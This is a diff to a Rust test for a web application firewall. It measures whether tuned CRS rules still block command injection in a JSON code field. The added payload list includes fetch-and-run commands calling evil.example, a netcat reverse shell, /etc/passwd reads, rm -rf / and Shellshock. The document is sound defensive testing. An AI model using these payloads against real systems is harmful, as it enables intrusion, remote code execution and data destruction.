@@ -127,8 +127,8 @@ const BENIGN: &[Req] = &[
 ];
 
 // Attacks, two of them in parameters the tuning excludes from single rules (comment,
-// json.code). A command injection in json.code is NOT in the set: the benign shell snippet
-// gets every RCE rule excluded for that field, which the reviewer has to decide on.
+// json.code). Command injection in json.code is measured apart (RCE_IN_CODE): the benign
+// shell snippet gets five rules excluded for that field, which the reviewer has to decide on.
 const ATTACKS: &[Req] = &[
     (
         "POST",
@@ -154,6 +154,26 @@ const ATTACKS: &[Req] = &[
     ("GET", "/search?q=..%2F..%2F..%2Fetc%2Fpasswd", "", "", ""),
     ("GET", "/other?id=1%27%20or%201%3D1--", "", "", ""),
 ];
+
+/// Command injections in `json.code` at /api/snippets, the field whose benign shell snippet
+/// gets five rules excluded (930120, 932130, 932160, 932230, 932250). Measured, not asserted
+/// all blocked: some of them are caught only by those rules (see docs/tuning.md).
+const RCE_IN_CODE: &[Req] = &[
+    rce(r#"{"code":"; cat /etc/passwd"}"#),
+    rce(r#"{"code":"$(curl -s http://evil.example/x.sh | sh)"}"#),
+    rce(r#"{"code":"; nc -e /bin/sh 10.0.0.1 4444"}"#),
+    rce(r#"{"code":"| wget http://evil.example/s -O- | bash"}"#),
+    rce(r#"{"code":"`id`"}"#),
+    rce(r#"{"code":"; python3 -c 'import os;os.system(input())'"}"#),
+    rce(r#"{"code":"& powershell -enc SQBFAFgA"}"#),
+    rce(r#"{"code":"; rm -rf / --no-preserve-root"}"#),
+    rce(r#"{"code":"() { :; }; /bin/bash -c id"}"#),
+    rce(r#"{"code":"; /usr/bin/id"}"#),
+];
+
+const fn rce(body: &'static str) -> Req {
+    ("POST", "/api/snippets", "application/json", body, "")
+}
 
 async fn send_all(addr: std::net::SocketAddr, reqs: &[Req]) -> Vec<u16> {
     let mut out = Vec::new();
@@ -185,6 +205,12 @@ async fn monitor_tune_block_passes_benign_traffic_and_still_blocks_attacks() {
     let before = Engine::start(app.addr, &crs_config(&crs, "block"));
     let benign_before = send_all(before.addr, BENIGN).await;
     let attacks_before = send_all(before.addr, ATTACKS).await;
+    let rce_before = send_all(before.addr, RCE_IN_CODE).await;
+    let rce_rules_before = last_rule_ids(
+        &before,
+        BENIGN.len() + ATTACKS.len() + RCE_IN_CODE.len(),
+        RCE_IN_CODE.len(),
+    );
     drop(before);
     // Monitor: replay the benign set and keep the log.
     let mut monitor = Engine::start(app.addr, &crs_config(&crs, "monitor"));
@@ -220,6 +246,7 @@ async fn monitor_tune_block_passes_benign_traffic_and_still_blocks_attacks() {
     let after = Engine::start(app.addr, &yaml);
     let benign_after = send_all(after.addr, BENIGN).await;
     let attacks_after = send_all(after.addr, ATTACKS).await;
+    let rce_after = send_all(after.addr, RCE_IN_CODE).await;
     eprintln!(
         "benign blocked: before {:.0}% ({benign_before:?}), after {:.0}% ({benign_after:?}); \
          attacks detected: before {:.0}% ({attacks_before:?}), after {:.0}% ({attacks_after:?})",
@@ -239,4 +266,62 @@ async fn monitor_tune_block_passes_benign_traffic_and_still_blocks_attacks() {
         1.0,
         "tuned: attacks are still blocked"
     );
+    // Command injection in the tuned json.code: every one that now passes was caught before
+    // only by rules the tuning excluded for that field; nothing else was given away.
+    let excluded: Vec<u64> = rules
+        .lines()
+        .filter_map(|l| l.split("ctl:ruleRemoveTargetById=").nth(1))
+        .filter_map(|t| t.strip_suffix(";ARGS:json.code\""))
+        .map(|id| id.parse().unwrap())
+        .collect();
+    eprintln!(
+        "command injection in json.code detected: before {:.0}% ({rce_before:?}), after {:.0}% \
+         ({rce_after:?}); rules excluded for json.code: {excluded:?}",
+        share(&rce_before) * 100.0,
+        share(&rce_after) * 100.0,
+    );
+    assert!(
+        share(&rce_before) > 0.5,
+        "the CRS alone blocks most of them"
+    );
+    let outcomes = RCE_IN_CODE.iter().zip(rce_before.iter().zip(&rce_after));
+    for ((req, (before, after)), ids) in outcomes.zip(&rce_rules_before) {
+        let detecting: Vec<&u64> = ids.iter().filter(|id| !is_scoring(**id)).collect();
+        if *before == 403 && *after != 403 {
+            assert!(
+                detecting.iter().all(|id| excluded.contains(id)),
+                "{} passes after tuning although rules {detecting:?} caught it before",
+                req.3
+            );
+        }
+    }
+}
+
+fn is_scoring(id: u64) -> bool {
+    matches!(id / 1000, 949 | 959 | 980)
+}
+
+/// The matched rule ids of the last `n` of `total` access-log lines, oldest first.
+fn last_rule_ids(engine: &Engine, total: usize, n: usize) -> Vec<Vec<u64>> {
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    loop {
+        let lines = engine.access();
+        if lines.len() >= total {
+            return lines[lines.len().saturating_sub(n)..]
+                .iter()
+                .map(|v| {
+                    v["rule_ids"]
+                        .as_array()
+                        .map(|a| a.iter().filter_map(|id| id.as_u64()).collect())
+                        .unwrap_or_default()
+                })
+                .collect();
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "{} of {total} access-log lines",
+            lines.len()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
 }
